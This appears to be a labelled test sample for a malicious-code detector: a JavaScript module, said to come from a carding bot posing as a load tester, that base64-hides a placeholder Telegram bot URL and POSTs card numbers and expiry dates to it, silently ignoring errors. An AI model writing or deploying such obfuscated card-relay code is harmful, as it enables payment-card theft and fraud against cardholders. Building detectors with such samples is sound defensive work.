// expect: suspicious
// source: corpus carding-bot (a "GiveWP load tester" that relays live cards): the Telegram bot URL is
// base64 in the text and decoded at load, then each hit is POSTed to it
const TG = Buffer.from('aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnLmludmFsaWQvYm90MTIzNDU2Nzg5OkZBS0UtRkFLRS1GQUtFLXRva2VuL3NlbmRNZXNzYWdl', 'base64').toString();
async function relay(card, status) {
  const text = `#${status} ${card.number}|${card.mm}|${card.yy}`;
  try { await fetch(TG, { method: 'POST', body: JSON.stringify({ chat_id: '-100FAKE', text }) }); } catch {}
}
module.exports = { relay };
